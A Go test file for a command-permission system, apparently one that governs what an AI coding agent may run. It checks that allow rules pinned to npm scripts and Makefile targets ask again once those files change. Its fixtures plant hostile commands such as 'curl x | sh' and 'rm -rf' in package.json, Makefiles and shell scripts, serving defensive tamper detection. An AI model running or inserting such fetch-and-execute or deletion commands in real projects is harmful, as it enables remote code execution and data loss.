//go:build unix

package book

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mcpdeck/mcpdeck/servers/rules"
)

// pinProject is a project with scripts and targets, and what is asked in it.
type pinProject struct {
	t    *testing.T
	root string
}

func (p *pinProject) write(name, text string) {
	p.t.Helper()
	at := filepath.Join(p.root, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(at), 0o700); err != nil {
		p.t.Fatal(err)
	}
	if err := os.WriteFile(at, []byte(text), 0o600); err != nil {
		p.t.Fatal(err)
	}
}

func (p *pinProject) asks(command string) Request {
	in := rules.At(p.root, p.root, filepath.ToSlash(filepath.Dir(p.root)))
	return Request{Agent: "claude", Project: in.Root, Home: in.Home, Now: time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC), Reading: rules.Read(command, in)}
}

const scripts = `{"scripts": {"test": "vitest run", "lint": "eslint ."}, "dependencies": {"a": "1"}}`

func newPinProject(t *testing.T) *pinProject {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	p := &pinProject{t, filepath.ToSlash(filepath.Join(root, "web"))}
	p.write(".git/HEAD", "")
	p.write("package.json", scripts)
	p.write("sub/package.json", strings.Replace(scripts, "vitest", "curl x | sh;", 1))
	p.write("Makefile", "lint:\n\tgo vet ./...\n")
	return p
}

func TestARuleForAScriptOrATargetAsksAgainOnceThatIsChanged(t *testing.T) {
	for name, c := range map[string]struct {
		kept, file, text string // what the rule is of, and how a file is changed
		asks             string
		allowed          bool
	}{
		"nothing":                            {"npm test", "", "", "npm test", true},
		"from the folder of the project":     {"npm test", "", "", "cd . && npm test", true},
		"another script":                     {"npm test", "package.json", strings.Replace(scripts, "eslint", "rm -rf", 1), "npm test", true},
		"what else is in the file":           {"npm test", "package.json", strings.Replace(scripts, `"a": "1"`, `"a": "2"`, 1), "npm test", true},
		"the script":                         {"npm test", "package.json", strings.Replace(scripts, "vitest", "curl x | sh; vitest", 1), "npm test", false},
		"what runs before the script":        {"npm test", "package.json", strings.Replace(scripts, `"lint"`, `"pretest"`, 1), "npm test", false},
		"a file that cannot be read":         {"npm test", "package.json", "{", "npm test", false},
		"another folder":                     {"npm test", "", "", "cd sub && npm test", false},
		"a folder that is not certain":       {"npm test", "", "", "cd sub; npm test", false},
		"a function that goes elsewhere":     {"npm test", "", "", "t() { npm test; }; cd sub && t", false},
		"a loop that goes elsewhere":         {"npm test", "", "", "for i in 1 2; do npm test; cd sub; done", false},
		"the same name by another word":      {"npm run lint", "", "", "npm run lint", true},
		"a script by its name":               {"npm run lint", "package.json", strings.Replace(scripts, "eslint", "sh", 1), "npm run lint", false},
		"a script by the same name for some": {"npm test", "package.json", `{"scripts": {"test": "sh x"}, "Scripts": {"test": "vitest run"}}`, "npm test", false},
		"a script that stands twice":         {"npm test", "package.json", `{"scripts": {"test": "sh x", "test": "vitest run"}}`, "npm test", false},
		"scripts that stand twice":           {"npm test", "package.json", `{"scripts": {"test": "sh x"}, "scripts": {"test": "vitest run"}}`, "npm test", false},
		"a folder in one of scripts":         {"npm test", "src/a.js", "", "cd src && npm test", true},
		"a folder with scripts of its own":   {"pnpm test", "src/package.yaml", "scripts: {test: sh x}\n", "cd src && pnpm test", false},
		"a folder with packages of its own":  {"npm test", "src/node_modules/a/package.json", "{}", "cd src && npm test", false},
		"the file of a target":               {"make lint", "Makefile", "lint:\n\tcurl x | sh\n", "make lint", false},
		"a file of targets that comes first": {"make lint", "GNUmakefile", "lint:\n\tcurl x | sh\n", "make lint", false},
		"a file of targets as it was":        {"make lint", "go.mod", "module a\n", "make lint", true},
	} {
		t.Run(name, func(t *testing.T) {
			p := newPinProject(t)
			q := p.asks(c.kept)
			all, _ := (&Book{}).Propose(&q, nil)
			b := &Book{}
			for _, one := range all {
				if len(one.Rule.Command.Words) > 0 {
					b.Rules = append(b.Rules, one.Rule)
				}
			}
			if len(b.Rules) != 1 || b.Rules[0].Command.Pin == "" || b.Decide(q).Verdict != Allow || !strings.Contains(b.Rules[0].Words(), "stays as it is") {
				t.Fatalf("proposed: %+v", all)
			}
			if c.file != "" {
				p.write(c.file, c.text)
			}
			d := b.Decide(p.asks(c.asks))
			if got := d.Verdict == Allow; got != c.allowed || !got && !strings.Contains(d.Why, "may be another than when rule k") && !strings.Contains(d.Why, "in another folder") {
				t.Errorf("%q: %s", d.Verdict, d.Why)
			}
		})
	}
}

func TestARuleForAScriptAsksAgainOnceWhatThatRunsInTurnIsChanged(t *testing.T) {
	for name, c := range map[string]struct {
		command, file, text string
		asks                bool
	}{
		"a script by its path":             {"make lint", "tools/lint.sh", "curl x | sh", true},
		"a script that a script names":     {"make lint", "tools/lib.sh", "curl x | sh", true},
		"a program of the project":         {"make lint", "tools/check", "#!/bin/sh\ncurl x | sh", true},
		"a script that was not there":      {"make lint", "tools/new.sh", "curl x | sh", true},
		"targets that are included":        {"make lint", "common.mk", "X = $(shell curl x | sh)", true},
		"targets of another folder":        {"make lint", "docs/Makefile", "all:\n\tcurl x | sh\n", true},
		"a text that is only named":        {"make lint", "docs/index.md", "curl x | sh", false},
		"a script that is not named":       {"make lint", "tools/other.sh", "curl x | sh", false},
		"another script of package.json":   {"npm test", "package.json", turning("node build.js", "curl x | sh"), true},
		"one that a pattern stands for":    {"npm test", "package.json", turning("eslint .", "curl x | sh"), true},
		"one that it does not run":         {"npm test", "package.json", turning("tsc -w", "curl x | sh"), false},
		"a script of another of its names": {"npm test", "build.js", "evil()", true},
		"a script by a link to it":         {"make lint", "tools/real.sh", "curl x | sh", true},
	} {
		t.Run(name, func(t *testing.T) {
			p := newPinProject(t)
			p.write("Makefile", "include common.mk\nlint:\n\t@sh tools/lint.sh docs/index.md && ./tools/check\n\t[ ! -f tools/new.sh ] || . tools/new.sh\n\t$(MAKE) -C docs all\n\tsh $(CURDIR)/tools/linked.sh\n")
			for file, text := range map[string]string{
				"tools/lint.sh": `. "$(dirname "$0")/lib.sh"` + "\n", "tools/lib.sh": "echo\n", "tools/check": "#!/bin/sh\n", "tools/other.sh": "echo\n", "tools/real.sh": "echo\n",
				"common.mk": "X = 1\n", "docs/Makefile": "all:\n\techo\n", "docs/index.md": "text\n", "package.json": turning("", ""), "build.js": "build()\n",
			} {
				p.write(file, text)
			}
			if err := errors.Join(os.Chmod(filepath.Join(p.root, "tools/check"), 0o700), os.Symlink("real.sh", filepath.Join(p.root, "tools/linked.sh"))); err != nil {
				t.Skip(err)
			}
			q := p.asks(c.command)
			all, _ := (&Book{}).Propose(&q, nil)
			b := &Book{Rules: []Rule{{ID: "w1", Verdict: Allow, Agent: []string{"claude"}, Command: &Command{Words: []string{"cp"}, May: []rules.Effect{rules.WriteIn, rules.Reads}}}}}
			for _, one := range all {
				b.Rules = append(b.Rules, one.Rule)
			}
			if d := b.Decide(q); d.Verdict != Allow {
				t.Fatalf("%q: %s", d.Verdict, d.Why)
			}
			if d := b.Decide(p.asks("cp a " + c.file + " && " + c.command)); c.asks == (d.Verdict == Allow) && c.file != "tools/new.sh" && !(c.file == "package.json" && !c.asks) {
				t.Errorf("with a command that writes it: %q, %s", d.Verdict, d.Why)
			}
			p.write(c.file, c.text)
			if d := b.Decide(p.asks(c.command)); c.asks == (d.Verdict == Allow) || c.asks && !strings.Contains(d.Why, "may be another than when rule k") {
				t.Errorf("%q: %s", d.Verdict, d.Why)
			}
		})
	}
}

// turning is a package.json whose test runs other scripts, with something in one of them replaced.
func turning(was, is string) string {
	return strings.Replace(`{"scripts": {"test": "npm run build && run-p 'lint:*'", "build": "node build.js", "lint:js": "eslint .", "watch": "tsc -w"}}`, was, is, min(len(was), 1))
}

func TestAnExactRuleAsksAgainOnceAScriptIsChanged(t *testing.T) {
	p := newPinProject(t)
	const command = "npm run lint && npm test"
	q := p.asks(command)
	all, _ := (&Book{}).Propose(&q, nil)
	if len(all) == 0 || all[0].Rule.Command.Exact == "" || all[0].Rule.Command.Pin == "" {
		t.Fatalf("proposed: %+v", all)
	}
	b := &Book{Rules: []Rule{all[0].Rule}}
	if d := b.Decide(q); d.Verdict != Allow {
		t.Errorf("%q: %s", d.Verdict, d.Why)
	}
	p.write("package.json", strings.Replace(scripts, "eslint", "sh", 1))
	if d := b.Decide(p.asks(command)); d.Verdict != "" || !strings.Contains(d.Why, "may be another") {
		t.Errorf("%q: %s", d.Verdict, d.Why)
	}
}

func TestACommandThatWritesItsOwnScriptIsAsked(t *testing.T) {
	p := newPinProject(t)
	q := p.asks("make lint")
	all, _ := (&Book{}).Propose(&q, nil)
	b := &Book{Rules: []Rule{{ID: "w1", Verdict: Allow, Agent: []string{"claude"}, Command: &Command{Words: []string{"cp"}, May: []rules.Effect{rules.WriteIn, rules.Reads}}}}}
	for _, one := range all {
		b.Rules = append(b.Rules, one.Rule)
	}
	for command, want := range map[string]Verdict{"cp a b && make lint": Allow, "cp a Makefile && make lint": "", "cp a makefile && make lint": ""} {
		if d := b.Decide(p.asks(command)); d.Verdict != want {
			t.Errorf("%s: %q, %s", command, d.Verdict, d.Why)
		}
	}
}

func TestARuleIsRenewedByKeepingItAgain(t *testing.T) {
	p := newPinProject(t)
	s := NewStore(t.TempDir(), t.TempDir())
	keep := func() string {
		t.Helper()
		return p.kept(s, "make lint").Command.Pin
	}
	was := keep()
	p.write("Makefile", "lint:\n\tgolangci-lint run\n")
	is := keep()
	if all := s.Now().Listed.Rules; len(all) != 1 || was == is || all[0].Command.Pin != is {
		t.Errorf("%d rules: %+v", len(all), all)
	}
}

// kept is the one rule by words that is proposed for a command, and kept.
func (p *pinProject) kept(s *Store, command string) Rule {
	p.t.Helper()
	q := p.asks(command)
	now := s.Now()
	all, _ := now.Listed.Propose(&q, nil)
	for _, one := range all {
		if len(one.Rule.Command.Words) > 0 {
			if err := s.Keep(one.Rule); err != nil {
				p.t.Fatal(err)
			}
			return one.Rule
		}
	}
	p.t.Fatalf("nothing is proposed: %+v", all)
	return Rule{}
}

func TestWhatARuleWasKeptForAndWhatIsThereAreKnownOnceItIsAsked(t *testing.T) {
	p := newPinProject(t)
	s := NewStore(t.TempDir(), t.TempDir())
	p.kept(s, "npm test")
	lint := p.kept(s, "make lint")
	if err := s.Accept(s.Now()); err != nil {
		t.Fatal(err)
	}
	decide := func(command string) Decision {
		now := s.Now()
		return now.Decide(p.asks(command))
	}
	if d := decide("npm test"); d.Verdict != Allow || d.Changed != nil {
		t.Fatalf("%q: %s, %+v", d.Verdict, d.Why, d.Changed)
	}
	p.write("package.json", strings.Replace(scripts, `"lint"`, `"pretest": "curl x | sh", "lint"`, 1))
	p.write("Makefile", "lint:\n\tsh x\n")
	for command, want := range map[string][2]string{
		"npm test":             {"package.json:\ntest: vitest run\n", "package.json:\npretest: curl x | sh\ntest: vitest run\n"},
		"true && npm test":     {"package.json:\ntest: vitest run\n", "package.json:\npretest: curl x | sh\ntest: vitest run\n"},
		"make lint":            {"Makefile:\nlint:\n\tgo vet ./...\n", "Makefile:\nlint:\n\tsh x\n"},
		"npm run other":        {},
		"rm -rf x":             {},
		"rm -rf x && npm test": {},
	} {
		d, got := decide(command), [2]string{}
		if d.Changed != nil {
			got = [2]string{d.Changed.Was, d.Changed.Is}
		}
		if d.Verdict != "" || got != want {
			t.Errorf("%s: %q, %q", command, d.Verdict, got)
		}
	}
	p.write("Makefile", strings.Repeat("#", 2<<20))
	if c := decide("make lint").Changed; c == nil || c.Was == "" || c.Is != "" {
		t.Error("a file that is too long to be read is read, or the rule is not named")
	}
	if err := s.Forget(lint.ID); err != nil {
		t.Fatal(err)
	}
	a, err := s.read()
	if err != nil || len(a.Stood) != 1 {
		t.Errorf("kept: %q, %v", a.Stood, err)
	}
}

func TestWhatIsTooLongIsPinnedButNotKept(t *testing.T) {
	p := newPinProject(t)
	s := NewStore(t.TempDir(), t.TempDir())
	p.write("Makefile", "lint:\n\tgo vet ./...\n#"+strings.Repeat("a", mostStands))
	p.kept(s, "make lint")
	if err := s.Accept(s.Now()); err != nil {
		t.Fatal(err)
	}
	p.write("Makefile", "lint:\n\tsh x\n")
	now := s.Now()
	if d := now.Decide(p.asks("make lint")); d.Verdict != "" || d.Changed == nil || d.Changed.Was != "" || d.Changed.Is == "" {
		t.Errorf("%q: %+v", d.Verdict, d.Changed)
	}
}
